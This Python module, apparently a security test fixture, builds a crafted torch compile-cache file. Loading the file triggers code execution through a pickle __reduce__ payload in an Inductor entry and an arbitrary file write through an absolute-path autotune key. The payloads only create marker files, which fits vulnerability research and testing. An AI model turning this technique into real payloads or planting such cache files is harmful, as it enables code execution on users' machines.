"""A crafted torch compile-cache file, as an attacker would plant it: loading it runs code.

Two sinks of torch's mega-cache loader (`torch.compiler.load_cache_artifacts`): an Inductor entry's content
is unpickled as it is loaded (the Triton bundle), and an autotune entry's key is a path torch writes the
content to (an absolute key writes anywhere). The file is built with torch's own serializer, so it is what
torch reads; the payloads only create marker files.
"""

from __future__ import annotations

import pickle
from pathlib import Path


class _CreateFile:
    """Unpickling this calls open(path, "w"): the marker file appears."""

    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self):
        return (open, (self.path, "w"))


def crafted_cache(pickle_marker: Path, write_marker: Path) -> bytes:
    from torch.compiler._cache import CacheArtifactFactory, CacheArtifactManager, _serialize_single_cache
    from torch.utils._appending_byte_serializer import AppendingByteSerializer

    CacheArtifactManager._ensure_cache_artifacts_registered()
    payload = pickle.dumps(_CreateFile(str(pickle_marker)))
    serializer = AppendingByteSerializer(serialize_fn=_serialize_single_cache)
    serializer.extend([
        ("autotune", [CacheArtifactFactory.create("autotune", str(write_marker), b"{}")]),
        ("inductor", [CacheArtifactFactory.create("inductor", "fzimagecrafted0000000000000000000000", payload)]),
    ])
    return serializer.to_bytes()
